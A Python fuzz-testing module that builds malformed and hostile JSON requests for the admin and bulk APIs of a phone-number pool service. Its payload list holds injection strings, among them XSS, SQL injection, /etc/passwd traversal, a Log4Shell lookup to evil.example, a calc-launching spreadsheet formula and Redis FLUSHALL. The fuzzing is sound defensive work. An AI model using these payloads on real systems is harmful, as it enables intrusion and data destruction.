"""Hostile documents: what the APIs are sent as JSON, and what only claims to be that."""

from __future__ import annotations

import json
import random
from typing import Any

from loadtests.fuzz.target import ADMIN, MALLORY_API_KEY, MALLORY_KEY

_TEXTS = (
    b"",
    b" ",
    b"one",
    b"mallory",
    b"honest",
    b"mallory-custom",
    b"+16462000000",
    b"+12127770000",
    b"16462000000",
    b"+1",
    b"tel:+16462000000;ext=5",
    b"-1",
    b"1e999",
    b"9" * 400,
    b"0x10",
    b"NaN",
    b"null",
    b"true",
    b"2026-01-01T00:00:00Z",
    b"9999-12-31T23:59:59Z",
    b"0000-00-00T00:00:00Z",
    b"10m",
    b"99999999999999y",
    b"\x00",
    b"\n",
    b"a\r\nX-Injected: yes",
    b"\xff\xfe",
    b"\xc0\xaf",
    b"\xed\xa0\x80",
    "\u2028\u2029".encode(),
    "\u202eoverride".encode(),
    "\U0001f4de".encode(),
    "e\u0301".encode() * 50,
    b"\x1b[2J\x1b]0;x\x07",
    b"../../etc/passwd",
    b"%2e%2e%2f",
    b"%",
    b"%zz",
    b"%u0041",
    b"<script>alert(1)</script>",
    b"</script><!--",
    b"'\"><img src=x onerror=alert(1)>",
    b"javascript:alert(1)",
    b"//evil.example",
    b"https://evil.example/",
    b"https://a:99999999/",
    b"http://[",
    b"http://[::1%25eth0]/",
    b"http://a.example\\@b.example/",
    b"data:text/html,x",
    b"' OR 1=1--",
    b"{{7*7}}",
    b"${jndi:ldap://evil.example/a}",
    b"=cmd|' /C calc'!A0",
    b"(a+)+$",
    b"(" * 200,
    b"[" * 200,
    b"redis.call('FLUSHALL')",
    b"*1\r\n$8\r\nFLUSHALL\r\n",
    b"a" * 3000,
    b"a=b&" * 300,
    b"{a}:b",
    b"__proto__",
    b"constructor",
)


def hostile_text(rng: random.Random) -> bytes:
    """A text that has broken something somewhere, or any bytes."""
    if rng.random() < 0.75:
        return rng.choice(_TEXTS)
    return rng.randbytes(rng.choice((1, 2, 8, 40, 300)))


_POOL = {
    "account": "mallory",
    "name": "Pool",
    "key": MALLORY_KEY,
    "type": "custom",
    "parameters": ["website", "location"],
    "min_duration": "10m",
    "hold_on_activity": "0s",
    "recycle": "least_active",
    "activity": {"call": 1, "click": 0.25, "half_life": "10m"},
    "max_size": 10,
    "fill": "on_demand",
    "numbers": ["+16463100001", "+16463100002"],
    "stock": {"id": "mallory-stock", "country": "US", "type": "local", "area": "646"},
    "initial": 0,
    "low_water": 0,
    "autoscale": {"grow": "10% / 5m", "shrink": "daily"},
    "overflow_number": "+16463109999",
    "destination": "+16463108888",
    "whisper": "From {website} to {location}",
    "landing_url": "https://landing.example/offer",
    "swap_targets": ["+16463107777"],
    "format": "as_found",
    "mobile_click_to_call": False,
    "when": {"host": "b.example", "parameter.utm_source": {"pattern": "^a+$"}},
    "values": {"website": ["one", "two"]},
    "budget": {"share": 20, "least": 5, "rate": 100},
    "on_exhausted": {"webhook": "http://127.0.0.1:9/"},
    "notify": [
        {
            "webhook": "http://127.0.0.1:9/",
            "secret": "fuzzed-secret-0123456789",
            "events": ["exhausted", "grown"],
            "cooldown": "1m",
        },
        {"email": "ops@fuzz.example"},
    ],
    "strict": True,
    "sticky": False,
    "fallback": "mallory-custom",
}
_STOCK = {
    "account": "mallory",
    "quarantine": "30d",
    "quiet": "7d",
    "low": 5,
    "numbers": ["+16463200001"],
}
_ACCOUNT = {
    "name": "Z",
    "origins": ["https://a.example", "https://*.b.example"],
    "unroutable": {"announcement": "Not in service", "destination": "+16463106666"},
    "api_keys": ["z-account-key-0123456789"],
    "quota": {"pools": 2, "numbers": 10, "stocks": 1},
}
_CALL = {
    "number": "+16462000000",
    "id": "call-1",
    "event": "ended",
    "at": "2026-01-01T00:00:00Z",
    "duration_seconds": 5,
    "amount": "1.50",
    "sku_list": ["a"],
    "quantity_list": [1],
}
_CALLS = {"calls": [_CALL, {**_CALL, "event": "outcome"}, {"id": 1}]}
_BULK = {
    "requests": [
        {
            "api_suffix": f"mallory-custom/allocate_number.json?ring_pool_key={MALLORY_KEY}&path=1",
            "request_id": "a",
        },
        {"api_suffix": "honest/allocate_number.json?website=two", "request_id": {"b": [1]}},
    ]
}
_KINDS = (b"application/json",) * 8 + (
    b"application/merge-patch+json",
    b"application/json; charset=utf-16",
    b"application/x-www-form-urlencoded",
    b"text/plain",
    b"application/yaml",
    b"application/msgpack",
    b"multipart/form-data; boundary=a",
    b"",
)


class Documents:
    """Makes documents, and requests with them."""

    def __init__(self, rng: random.Random) -> None:
        self._rng = rng

    def request(self) -> tuple[str, bytes, bytes, bytes, bytes]:
        """Method, target, content type, body and key."""
        rng = self._rng
        key = MALLORY_API_KEY.encode()
        base: Any
        name = f"z{rng.randrange(4)}"
        match rng.randrange(8):
            case 0 | 1 | 2:
                path = f"/admin/v1/pools/mallory-{name}"
                method, path, base = rng.choice(
                    (
                        ("PUT", path, _POOL),
                        ("PUT", path, _POOL),
                        ("PATCH", path, _POOL),
                        ("POST", "/admin/v1/pools", {"id": f"mallory-{name}", **_POOL}),
                        ("POST", f"{path}/numbers", {"numbers": _POOL["numbers"]}),
                        ("DELETE", f"{path}/numbers", {"numbers": _POOL["numbers"]}),
                        ("DELETE", path, {}),
                    )
                )
            case 3:
                path = f"/admin/v1/stocks/mallory-{name}"
                method, base = rng.choice((("PUT", _STOCK), ("PATCH", _STOCK), ("DELETE", {})))
            case 4:
                path, key = f"/admin/v1/accounts/{name}", ADMIN.encode()
                method, base = rng.choice((("PUT", _ACCOUNT), ("PATCH", _ACCOUNT), ("DELETE", {})))
            case 5:
                path, base = rng.choice((("/admin/v1/calls", _CALL), ("/v1/calls", _CALLS)))
                method = "POST"
            case _:
                method, path, base = "POST", "/api/v1/bulk.json", _BULK
                key = rng.choice((MALLORY_KEY.encode(), key, b""))
        return method, path.encode(), rng.choice(_KINDS), self.bytes(base), key

    def bytes(self, base: Any = _POOL) -> bytes:
        """A document, more or less like another."""
        rng = self._rng
        for _ in range(rng.choice((0, 1, 1, 1, 2, 5))):
            base = self._changed(base)
        data = json.dumps(base, ensure_ascii=rng.random() < 0.5).encode("utf-8", "surrogatepass")
        match rng.randrange(16):
            case 0:
                place = rng.randrange(len(data) + 1)
                return data[:place] + hostile_text(rng) + data[place:]
            case 1:
                return data[: rng.randrange(len(data) + 1)]
            case 2:
                return data.decode("utf-8", "replace").encode(
                    rng.choice(("utf-16", "utf-32", "utf-8-sig"))
                )
            case 3:
                depth = rng.choice((10, 1000, 20_000))
                return b'{"numbers":' + b"[" * depth + b"]" * depth + b"}"
            case 4:
                return b'{"a":1,"a":2,' + data[1:]
            case 5:
                return b"%YAML 1.2\n---\na: &a [*a]\n" + data
            case 6:
                return b"\x82\xa4name\xa1x\xc7\xff" + rng.randbytes(20)
            case 7:
                return hostile_text(rng)
            case 8:
                return b'{"numbers":[%b0]}' % (b"0," * rng.choice((10, 5000)))
        return data

    def _changed(self, value: Any) -> Any:
        """The same with something else somewhere."""
        rng = self._rng
        if isinstance(value, dict) and value and rng.random() < 0.9:
            name = rng.choice(list(value))
            changed = dict(value)
            match rng.randrange(6):
                case 0:
                    del changed[name]
                case 1:
                    changed[hostile_text(rng).decode("utf-8", "replace")] = self._any()
                case _:
                    changed[name] = self._changed(value[name])
            return changed
        if isinstance(value, list) and value and rng.random() < 0.7:
            place = rng.randrange(len(value))
            return [*value[:place], self._changed(value[place]), *value[place:]]
        return self._any()

    def _any(self) -> Any:
        rng = self._rng
        text = hostile_text(rng).decode("utf-8", "replace")
        return rng.choice(
            (
                text,
                text,
                text,
                None,
                True,
                0,
                -1,
                1 << 63,
                10**40,
                1.5,
                float("nan"),
                float("inf"),
                [],
                {},
                [text] * 3,
                {text: text},
                [[[[]]]],
                [f"+1646310{n:04}" for n in range(rng.choice((1, 50)))],
            )
        )
